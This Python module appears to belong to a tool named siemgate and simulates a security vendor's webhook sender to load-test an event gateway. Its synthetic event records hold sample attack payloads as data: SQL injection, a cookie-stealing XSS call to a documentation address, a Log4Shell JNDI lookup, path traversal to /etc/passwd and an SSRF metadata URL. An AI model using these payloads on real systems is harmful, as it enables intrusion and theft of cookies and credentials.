"""`siemgate simulate`: behave like the Application Security webhook sender.

What the sender does (docs/DESIGN.md, "What the sender does, and what that forces on us"): it
posts batches of up to 500 events, one at a time per integration (the next batch waits for
the HTTP answer to the previous one); it first sends a confirmation message holding a link,
and can send a test message; it never resends a batch answered with anything but 200, and it
disables the integration on 401/403.

So this simulator:

- sends the confirmation and test messages first when asked (`--confirm`, `--test`);
- then N events (or events for `--duration` seconds) in batches of `--batch`, strictly
  sequentially per sender over one persistent connection, `--interval` seconds apart;
- with `--concurrency C`, runs C such senders at once (C integrations, or C replicas of the
  vendor's sender): each is still sequential;
- counts every non-200 as rejected, i.e. LOST, and every batch without an answer as lost too;
- stops every sender on 401/403, as the vendor disables the integration.

It is also the benchmark's fallback load generator, so event generation is cheap: a pool of
events is serialized once, and each batch is assembled from the pre-serialized fragments
with a fresh id and timestamp (ids are unique within a run).
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import itertools
import math
import random
import sys
import time
import uuid
from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import httpx
import orjson

from siemgate import __version__
from siemgate.terminal import printable

DEFAULT_MIX: Final[Mapping[str, float]] = {"high": 1.0, "medium": 3.0, "low": 6.0}
# Mix names that mean "send the event without a severity field at all".
MISSING_SEVERITY: Final = frozenset({"unknown", "missing", "none"})
MAX_POOL: Final = 5000
TEST_MESSAGE: Final[Mapping[str, str]] = {
    "type": "test",
    "message": "This is a test message from Application Security",
}
USER_AGENT: Final = f"siemgate-simulate/{__version__} (Application Security webhook sender simulator)"
EXIT_OK: Final = 0
EXIT_LOST: Final = 1
EXIT_USAGE: Final = 2


# ---------------------------------------------------------------------------------------------
# Options


def parse_mix(text: str) -> dict[str, float]:
    """`high=1,medium=3,low=6` -> {"high": 1.0, ...}.

    A name is sent verbatim as the severity value (so `Critical=1` or `INFO=1` send those
    casings), except `unknown`/`missing`/`none`, which send events without a severity field."""
    mix: dict[str, float] = {}
    for part in text.split(","):
        part = part.strip()
        if not part:
            continue
        name, sep, weight = part.partition("=")
        name = name.strip()
        if not sep or not name:
            raise ValueError(f"--mix: {part!r} is not NAME=WEIGHT (e.g. high=1,medium=3,low=6)")
        try:
            value = float(weight)
        except ValueError:
            raise ValueError(f"--mix: the weight of {name!r} is not a number: {weight!r}") from None
        if not math.isfinite(value) or value < 0:
            raise ValueError(f"--mix: the weight of {name!r} must be a finite number >= 0")
        mix[name] = mix.get(name, 0.0) + value
    _check_mix(mix)
    return mix


def _check_mix(mix: Mapping[str, float]) -> None:
    if not mix or sum(mix.values()) <= 0:
        raise ValueError("--mix: needs at least one severity with a positive weight")


def parse_header(text: str) -> tuple[str, str]:
    """`'X-Api-Key: secret'` -> ("X-Api-Key", "secret")."""
    name, sep, value = text.partition(":")
    name = name.strip()
    if not sep or not name or any(c.isspace() for c in name):
        raise ValueError(f"--header: {text.split(':', 1)[0]!r}... is not 'Name: value'")
    return name, value.strip()


@dataclass(frozen=True, kw_only=True)
class SimulateOptions:
    url: str
    headers: tuple[tuple[str, str], ...] = ()
    # Total events over all senders; None (with `duration`) means: until the duration is over.
    events: int | None = 1000
    batch: int = 500
    # Seconds each sender waits after an answer before its next batch.
    interval: float = 0.0
    mix: Mapping[str, float] = field(default_factory=lambda: dict(DEFAULT_MIX))
    confirm: bool = False
    confirm_link: str | None = None
    test: bool = False
    concurrency: int = 1
    gzip: bool = False
    seed: int | None = None
    timeout: float = 30.0
    # Stop starting new batches after this many seconds (the batch in flight is finished).
    duration: float | None = None
    # None: the body is a JSON array; else an object holding the array under this key.
    wrap: str | None = None

    def __post_init__(self) -> None:
        if not self.url.startswith(("http://", "https://")):
            raise ValueError(f"--url must be an http:// or https:// URL, not {self.url!r}")
        if self.events is None and self.duration is None:
            raise ValueError("give --events, --duration, or both")
        if self.events is not None and self.events < 0:
            raise ValueError("--events must be >= 0")
        if self.batch < 1:
            raise ValueError("--batch must be at least 1")
        if self.interval < 0:
            raise ValueError("--interval must be >= 0")
        if self.concurrency < 1:
            raise ValueError("--concurrency must be at least 1")
        if self.timeout <= 0:
            raise ValueError("--timeout must be positive")
        if self.duration is not None and self.duration <= 0:
            raise ValueError("--duration must be positive")
        _check_mix(self.mix)


# ---------------------------------------------------------------------------------------------
# Events

_RULES: Final[tuple[tuple[str, str, str, str, str, str], ...]] = (
    # (category, ruleId, ruleName, description, attack location, payload)
    (
        "injection",
        "ASR-942100",
        "SQL Injection Attack Detected via libinjection",
        "A SQL injection payload was detected in a request parameter; the query string matched "
        "a known tautology pattern used to bypass authentication.",
        "query",
        "1' OR '1'='1' -- ",
    ),
    (
        "xss",
        "ASR-941110",
        "Cross-Site Scripting: Script Tag Vector",
        "A reflected cross-site scripting attempt was detected: a script tag was submitted in a "
        "form field that is echoed back in the response page.",
        "body",
        "<script>fetch('//203.0.113.66/c?'+document.cookie)</script>",
    ),
    (
        "path-traversal",
        "ASR-930120",
        "OS File Access Attempt",
        "A path traversal sequence targeting a sensitive operating-system file was detected in the requested URL path.",
        "path",
        "../../../../etc/passwd",
    ),
    (
        "rce",
        "ASR-944150",
        "Remote Command Execution: Log4j JNDI Lookup",
        "A JNDI lookup string associated with CVE-2021-44228 (Log4Shell) was found in a request "
        "header; the target library is present in the application's dependencies.",
        "header",
        "${jndi:ldap://198.51.100.23:1389/a}",
    ),
    (
        "ssrf",
        "ASR-934110",
        "Server-Side Request Forgery to Cloud Metadata",
        "The application attempted to fetch a URL supplied by the client that resolves to the "
        "cloud instance metadata service.",
        "body",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ),
    (
        "authentication",
        "ASR-AUTH-0007",
        "Credential Stuffing Detected",
        "A burst of failed logins for many distinct accounts from one client was detected on the "
        "login endpoint, consistent with a credential-stuffing campaign.",
        "body",
        "username=alice%40example.com&password=********",
    ),
    (
        "access-control",
        "ASR-API-0001",
        "Broken Object Level Authorization",
        "An authenticated user requested an object that belongs to another tenant; the API "
        "returned the object instead of denying access.",
        "path",
        "/api/v2/accounts/88121/invoices/551902",
    ),
    (
        "deserialization",
        "ASR-944200",
        "Java Deserialization Gadget Chain",
        "A serialized Java object containing a known gadget chain class was posted to an "
        "endpoint that deserializes untrusted input.",
        "body",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ==",
    ),
)
_APPS: Final = (
    ("app-7f3a91", "storefront-web", "shop.example.com", "production"),
    ("app-21c0de", "payments-api", "pay.example.com", "production"),
    ("app-5b8e44", "customer-portal", "portal.example.net", "production"),
    ("app-9d1f07", "inventory-service", "inventory.internal.example.org", "staging"),
    ("app-c4e2a8", "mobile-backend", "m-api.example.com", "production"),
)
_PATHS: Final = (
    "/api/v1/login",
    "/api/v1/cart/items",
    "/search",
    "/api/v2/accounts/88121/invoices",
    "/checkout/confirm",
    "/static/../../../../etc/passwd",
    "/graphql",
    "/api/v1/webhooks/import",
)
_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
)
_COUNTRIES: Final = ("US", "NL", "DE", "BR", "IN", "CN", "RU", "FR", "GB", "SG")
_ACTIONS: Final = ("blocked", "blocked", "detected", "monitored")
_METHODS: Final = ("GET", "POST", "POST", "PUT", "GET")
# Documentation address blocks (RFC 5737): nothing real is ever named.
_NETS: Final = ("203.0.113.", "198.51.100.", "192.0.2.")


def _event_body(rng: random.Random, severity_name: str) -> dict[str, Any]:
    """One event without `id` and `timestamp` (added per send)."""
    category, rule_id, rule_name, description, location, payload = rng.choice(_RULES)
    app_id, app_name, host, environment = rng.choice(_APPS)
    path = rng.choice(_PATHS)
    method = rng.choice(_METHODS)
    source_ip = f"{rng.choice(_NETS)}{rng.randrange(1, 255)}"
    event: dict[str, Any] = {"type": "security_event"}
    if severity_name not in MISSING_SEVERITY:
        event["severity"] = severity_name
    event.update(
        {
            "category": category,
            "ruleId": rule_id,
            "ruleName": rule_name,
            "description": description,
            "action": rng.choice(_ACTIONS),
            "application": {"id": app_id, "name": app_name, "environment": environment},
            "asset": {"host": host},
            "request": {
                "method": method,
                "url": f"https://{host}{path}",
                "userAgent": rng.choice(_AGENTS),
            },
            "source": {
                "ip": source_ip,
                "port": rng.randrange(1024, 65536),
                "country": rng.choice(_COUNTRIES),
            },
            "attack": {"location": location, "payload": payload},
            "accountId": "acct-000042",
        }
    )
    return event


def _severities(n: int, mix: Mapping[str, float], rng: random.Random) -> list[str]:
    names = list(mix)
    return rng.choices(names, weights=[mix[name] for name in names], k=n)


class _Ids:
    """UUID-shaped ids, unique within a run: a random version-4 prefix and a 48-bit counter."""

    def __init__(self) -> None:
        text = str(uuid.uuid4())
        self._prefix = text[:24]  # "xxxxxxxx-xxxx-4xxx-yxxx-"
        self._counter = itertools.count(1)

    def next(self) -> str:
        return f"{self._prefix}{next(self._counter):012x}"


def _iso(moment: datetime) -> str:
    return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def make_events(n: int, mix: Mapping[str, float] | str | None = None, seed: int | None = None) -> list[dict[str, Any]]:
    """`n` realistic Application Security events (~800 bytes each) with severities drawn by
    `mix` weights. Deterministic for a given seed, except the ids (unique per call)."""
    mix = parse_mix(mix) if isinstance(mix, str) else dict(mix or DEFAULT_MIX)
    _check_mix(mix)
    rng = random.Random(seed)
    ids = _Ids()
    now = datetime.now(UTC)
    events = []
    for index, severity in enumerate(_severities(n, mix, rng)):
        body = _event_body(rng, severity)
        moment = now - timedelta(milliseconds=(n - index) * 7)
        events.append({"id": ids.next(), "timestamp": _iso(moment), **body})
    return events


def make_batch_body(events: Sequence[Mapping[str, Any]], wrap: str | None = None) -> bytes:
    """The HTTP body of one batch: a JSON array, or `{wrap: [...]}`."""
    return orjson.dumps({wrap: list(events)} if wrap else list(events))


class EventPool:
    """Pre-serialized events; `body(n)` assembles a batch of the next `n` with fresh ids and
    the current time. Cheap: no JSON encoding per send."""

    def __init__(self, size: int, mix: Mapping[str, float], seed: int | None, wrap: str | None = None) -> None:
        rng = random.Random(seed)
        self.severities = _severities(max(1, size), mix, rng)
        # Each fragment is an event's JSON without its opening brace, `id` and `timestamp`.
        self._fragments = [orjson.dumps(_event_body(rng, s))[1:] for s in self.severities]
        self._cursor = 0
        self._ids = _Ids()
        if wrap:
            self._head, self._tail = b"{" + orjson.dumps(wrap) + b":[", b"]}"
        else:
            self._head, self._tail = b"[", b"]"

    def body(self, n: int) -> tuple[bytes, Counter[str]]:
        """The body of a batch of `n` events and the severities it holds."""
        stamp = _iso(datetime.now(UTC)).encode()
        fragments = self._fragments
        size = len(fragments)
        parts = []
        severities: Counter[str] = Counter()
        for _ in range(n):
            index = self._cursor
            self._cursor = (index + 1) % size
            severities[self.severities[index]] += 1
            parts.append(b'{"id":"%s","timestamp":"%s",%s' % (self._ids.next().encode(), stamp, fragments[index]))
        return self._head + b",".join(parts) + self._tail, severities


def confirmation_message(link: str | None = None) -> dict[str, str]:
    if link is None:
        link = f"https://appsec.example.com/api/integrations/webhook/confirm?token={uuid.uuid4().hex}"
    return {"type": "confirmation", "confirmationLink": link}


# ---------------------------------------------------------------------------------------------
# Report


@dataclass(kw_only=True)
class ControlResult:
    kind: str  # "confirmation" or "test"
    status: int | None  # None: no answer (connection error)
    error: str | None = None
    latency: float | None = None


PERCENTILES: Final = (("p50", 50.0), ("p90", 90.0), ("p99", 99.0), ("p99.9", 99.9))


def percentile(sorted_values: Sequence[float], p: float) -> float:
    """Nearest-rank percentile of already sorted values (0.0 when there are none)."""
    if not sorted_values:
        return 0.0
    rank = max(1, math.ceil(p / 100.0 * len(sorted_values)))
    return sorted_values[min(rank, len(sorted_values)) - 1]


@dataclass(kw_only=True)
class SimulateReport:
    url: str
    concurrency: int
    batch_size: int
    batches_sent: int = 0
    batches_acked: int = 0
    events_acked: int = 0
    batches_rejected: int = 0
    # Rejected = answered with anything but 200: the sender never resends them: LOST.
    events_rejected: int = 0
    rejected_by_status: dict[int, int] = field(default_factory=dict)
    # Batches that got no answer at all (connection refused/reset, timeout): lost as well.
    connection_errors: int = 0
    events_errored: int = 0
    errors_by_kind: dict[str, int] = field(default_factory=dict)
    # 401/403 disable the integration at the vendor: every sender stops.
    disabled_by: int | None = None
    # Events of --events never posted because the integration was disabled.
    events_unsent: int = 0
    control: list[ControlResult] = field(default_factory=list)
    severities_acked: dict[str, int] = field(default_factory=dict)
    bytes_sent: int = 0
    elapsed: float = 0.0
    # Seconds from the start of the POST to the complete 200 answer, one per acked batch.
    ack_latencies: list[float] = field(default_factory=list)

    @property
    def events_lost(self) -> int:
        return self.events_rejected + self.events_errored

    @property
    def ok(self) -> bool:
        control_ok = all(c.status == 200 for c in self.control)
        return control_ok and self.events_lost == 0 and self.disabled_by is None

    @property
    def events_per_second(self) -> float:
        return self.events_acked / self.elapsed if self.elapsed > 0 else 0.0

    @property
    def megabytes_per_second(self) -> float:
        return self.bytes_sent / 1e6 / self.elapsed if self.elapsed > 0 else 0.0

    def latency_ms(self) -> dict[str, float]:
        values = sorted(self.ack_latencies)
        result = {name: percentile(values, p) * 1000 for name, p in PERCENTILES}
        result["max"] = (values[-1] if values else 0.0) * 1000
        result["mean"] = (sum(values) / len(values) if values else 0.0) * 1000
        return result

    def to_dict(self) -> dict[str, Any]:
        return {
            "url": self.url,
            "ok": self.ok,
            "concurrency": self.concurrency,
            "batch_size": self.batch_size,
            "batches_sent": self.batches_sent,
            "batches_acked": self.batches_acked,
            "events_acked": self.events_acked,
            "batches_rejected": self.batches_rejected,
            "events_rejected": self.events_rejected,
            "rejected_by_status": {str(k): v for k, v in sorted(self.rejected_by_status.items())},
            "connection_errors": self.connection_errors,
            "events_errored": self.events_errored,
            "errors_by_kind": dict(self.errors_by_kind),
            "events_lost": self.events_lost,
            "disabled_by": self.disabled_by,
            "events_unsent": self.events_unsent,
            "control": [
                {"kind": c.kind, "status": c.status, "error": c.error, "latency_ms": _ms(c.latency)}
                for c in self.control
            ],
            "severities_acked": dict(self.severities_acked),
            "bytes_sent": self.bytes_sent,
            "elapsed_seconds": round(self.elapsed, 6),
            "events_per_second": round(self.events_per_second, 1),
            "megabytes_per_second": round(self.megabytes_per_second, 3),
            "ack_latency_ms": {k: round(v, 3) for k, v in self.latency_ms().items()},
        }

    def format(self) -> str:
        lines = [f"siemgate simulate -> {self.url}  ({self.concurrency} sequential sender(s), batch {self.batch_size})"]
        for c in self.control:
            answer = str(c.status) if c.status is not None else f"no answer ({c.error})"
            lines.append(f"  {c.kind} message: {answer}")
        lines.append(f"  acked (200):      {self.batches_acked} batches, {self.events_acked} events")
        if self.severities_acked:
            mix = ", ".join(f"{k}={v}" for k, v in sorted(self.severities_acked.items()))
            lines.append(f"                    by severity: {mix}")
        by_status = ", ".join(f"{k}: {v}" for k, v in sorted(self.rejected_by_status.items())) or "none"
        lines.append(
            f"  rejected (LOST):  {self.batches_rejected} batches, {self.events_rejected} events  [{by_status}]"
        )
        kinds = ", ".join(f"{k}: {v}" for k, v in sorted(self.errors_by_kind.items())) or "none"
        lines.append(f"  no answer (LOST): {self.connection_errors} batches, {self.events_errored} events  [{kinds}]")
        if self.disabled_by is not None:
            lines.append(
                f"  integration DISABLED by the vendor's rule: the server answered {self.disabled_by}; "
                f"{self.events_unsent} events never sent"
            )
        lines.append(
            f"  elapsed {self.elapsed:.3f} s, {self.events_per_second:,.0f} events/s, "
            f"{self.megabytes_per_second:.1f} MB/s sent"
        )
        lat = self.latency_ms()
        lines.append(
            "  ack latency ms:   "
            + "  ".join(f"{name} {lat[name]:.2f}" for name in ("p50", "p90", "p99", "p99.9", "max"))
        )
        lines.append("  result: " + ("OK, nothing lost" if self.ok else f"{self.events_lost} events LOST"))
        return "\n".join(lines)


def _ms(seconds: float | None) -> float | None:
    return None if seconds is None else round(seconds * 1000, 3)


# ---------------------------------------------------------------------------------------------
# Sending


class _Run:
    """State shared by the senders of one run (one event loop: no locking needed)."""

    def __init__(self, options: SimulateOptions, report: SimulateReport) -> None:
        self.options = options
        self.report = report
        self.remaining = options.events
        self.deadline: float | None = None
        self.stopped = False

    def take(self) -> int:
        if self.stopped:
            return 0
        if self.deadline is not None and time.perf_counter() >= self.deadline:
            return 0
        if self.remaining is None:
            return self.options.batch
        n = min(self.options.batch, self.remaining)
        self.remaining -= n
        return n


def _client(options: SimulateOptions) -> httpx.AsyncClient:
    headers = {"User-Agent": USER_AGENT, "Content-Type": "application/json"}
    if options.gzip:
        headers["Content-Encoding"] = "gzip"
    headers.update(dict(options.headers))
    return httpx.AsyncClient(
        headers=headers,
        timeout=httpx.Timeout(options.timeout),
        # One persistent connection per sender, like the vendor's sequential poster.
        limits=httpx.Limits(max_connections=1, max_keepalive_connections=1, keepalive_expiry=120),
        follow_redirects=False,
        trust_env=False,
    )


def _encode(body: bytes, options: SimulateOptions) -> bytes:
    return gzip.compress(body, compresslevel=1) if options.gzip else body


async def _post(client: httpx.AsyncClient, url: str, body: bytes) -> tuple[int | None, float, str | None]:
    started = time.perf_counter()
    try:
        response = await client.post(url, content=body)
    except httpx.TransportError as exc:
        return None, time.perf_counter() - started, type(exc).__name__
    return response.status_code, time.perf_counter() - started, None


async def _send_control(client: httpx.AsyncClient, run: _Run, kind: str, message: Mapping[str, str]) -> None:
    status, latency, error = await _post(client, run.options.url, _encode(orjson.dumps(message), run.options))
    run.report.control.append(ControlResult(kind=kind, status=status, error=error, latency=latency))
    if status in (401, 403):
        run.report.disabled_by = status
        run.stopped = True


async def _sender(run: _Run, pool: EventPool, client: httpx.AsyncClient) -> None:
    options, report = run.options, run.report
    while True:
        n = run.take()
        if n == 0:
            return
        raw, severities = pool.body(n)
        body = _encode(raw, options)
        status, latency, error = await _post(client, options.url, body)
        report.batches_sent += 1
        report.bytes_sent += len(body)
        if status == 200:
            report.batches_acked += 1
            report.events_acked += n
            report.ack_latencies.append(latency)
            for name, count in severities.items():
                report.severities_acked[name] = report.severities_acked.get(name, 0) + count
        elif status is not None:
            report.batches_rejected += 1
            report.events_rejected += n
            report.rejected_by_status[status] = report.rejected_by_status.get(status, 0) + 1
            if status in (401, 403):
                report.disabled_by = status
                run.stopped = True
                return
        else:
            assert error is not None
            report.connection_errors += 1
            report.events_errored += n
            report.errors_by_kind[error] = report.errors_by_kind.get(error, 0) + 1
            # Do not spin on a dead server; the vendor would wait for its next 5 s tick anyway.
            await asyncio.sleep(max(options.interval, 0.05))
            continue
        if options.interval:
            await asyncio.sleep(options.interval)


async def simulate(options: SimulateOptions) -> SimulateReport:
    """Run the simulation described by `options` and report what happened."""
    report = SimulateReport(url=options.url, concurrency=options.concurrency, batch_size=options.batch)
    run = _Run(options, report)
    pool_size = MAX_POOL if options.events is None else max(1, min(options.events, MAX_POOL))
    pool = EventPool(pool_size, options.mix, options.seed, options.wrap)
    clients = [_client(options) for _ in range(options.concurrency)]
    try:
        if options.confirm:
            await _send_control(clients[0], run, "confirmation", confirmation_message(options.confirm_link))
        if options.test and not run.stopped:
            await _send_control(clients[0], run, "test", TEST_MESSAGE)
        started = time.perf_counter()
        if options.duration is not None:
            run.deadline = started + options.duration
        await asyncio.gather(*(_sender(run, pool, client) for client in clients))
        report.elapsed = time.perf_counter() - started
        if run.remaining is not None and run.stopped:
            report.events_unsent = run.remaining
    finally:
        await asyncio.gather(*(client.aclose() for client in clients), return_exceptions=True)
    return report


# ---------------------------------------------------------------------------------------------
# Command line


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--url", required=True, help="the webhook URL, e.g. http://127.0.0.1:8080/webhook/demo")
    parser.add_argument(
        "--header",
        "-H",
        action="append",
        default=[],
        metavar="'NAME: VALUE'",
        help="a custom header sent with every post (repeatable), e.g. 'X-Api-Key: change-me'",
    )
    parser.add_argument("--events", type=int, default=None, help="events to send in all (default 1000)")
    parser.add_argument("--batch", type=int, default=500, help="events per batch (default 500, the vendor's)")
    parser.add_argument(
        "--interval",
        type=float,
        default=0.0,
        metavar="S",
        help="seconds between an answer and the next batch (default 0: as fast as answers allow)",
    )
    parser.add_argument(
        "--mix",
        default="high=1,medium=3,low=6",
        help="severity weights; names are sent verbatim (Critical=1, INFO=1 ...), "
        "unknown=1 sends events without severity (default high=1,medium=3,low=6)",
    )
    parser.add_argument("--confirm", action="store_true", help="send the confirmation message first")
    parser.add_argument("--confirm-link", metavar="URL", help="the confirmation link to send (implies --confirm)")
    parser.add_argument("--test", action="store_true", help="send the 'Test Integration' message first")
    parser.add_argument(
        "--concurrency", type=int, default=1, metavar="C", help="independent sequential senders (default 1)"
    )
    parser.add_argument("--duration", type=float, metavar="S", help="keep sending for S seconds")
    parser.add_argument("--gzip", action="store_true", help="gzip the bodies (Content-Encoding: gzip)")
    parser.add_argument("--wrap", metavar="KEY", help="send {KEY: [...]} instead of a bare JSON array")
    parser.add_argument("--seed", type=int, help="seed for the event contents (ids stay unique per run)")
    parser.add_argument("--timeout", type=float, default=30.0, metavar="S", help="per-request timeout (default 30)")
    parser.add_argument("--json", action="store_true", help="print the report as JSON")


def options_from_args(args: argparse.Namespace) -> SimulateOptions:
    events = args.events
    if events is None and args.duration is None:
        events = 1000
    return SimulateOptions(
        url=args.url,
        headers=tuple(parse_header(h) for h in args.header),
        events=events,
        batch=args.batch,
        interval=args.interval,
        mix=parse_mix(args.mix),
        confirm=args.confirm or args.confirm_link is not None,
        confirm_link=args.confirm_link,
        test=args.test,
        concurrency=args.concurrency,
        gzip=args.gzip,
        seed=args.seed,
        timeout=args.timeout,
        duration=args.duration,
        wrap=args.wrap,
    )


def run_simulation(options: SimulateOptions) -> SimulateReport:
    """Run `simulate` in a fresh event loop (uvloop when installed)."""
    try:
        import uvloop
    except ImportError:
        return asyncio.run(simulate(options))
    report: SimulateReport = uvloop.run(simulate(options))
    return report


def main(args: argparse.Namespace) -> int:
    """`siemgate simulate`: 0 when every batch and message got 200, 1 when anything was lost,
    2 on bad arguments."""
    try:
        options = options_from_args(args)
    except ValueError as exc:
        print(f"siemgate simulate: {printable(exc)}", file=sys.stderr)
        return EXIT_USAGE
    try:
        report = run_simulation(options)
    except KeyboardInterrupt:
        print("siemgate simulate: interrupted", file=sys.stderr)
        return 130
    if args.json:
        sys.stdout.write(orjson.dumps(report.to_dict(), option=orjson.OPT_INDENT_2).decode() + "\n")
    else:
        # Errors quote what the target answered: escaped, line by line.
        print("\n".join(printable(line) for line in report.format().split("\n")))
    return EXIT_OK if report.ok else EXIT_LOST


if __name__ == "__main__":  # python -m siemgate.simulate, before the CLI wires it in
    _parser = argparse.ArgumentParser(prog="siemgate simulate", description=__doc__.split("\n\n")[0])
    add_arguments(_parser)
    sys.exit(main(_parser.parse_args()))
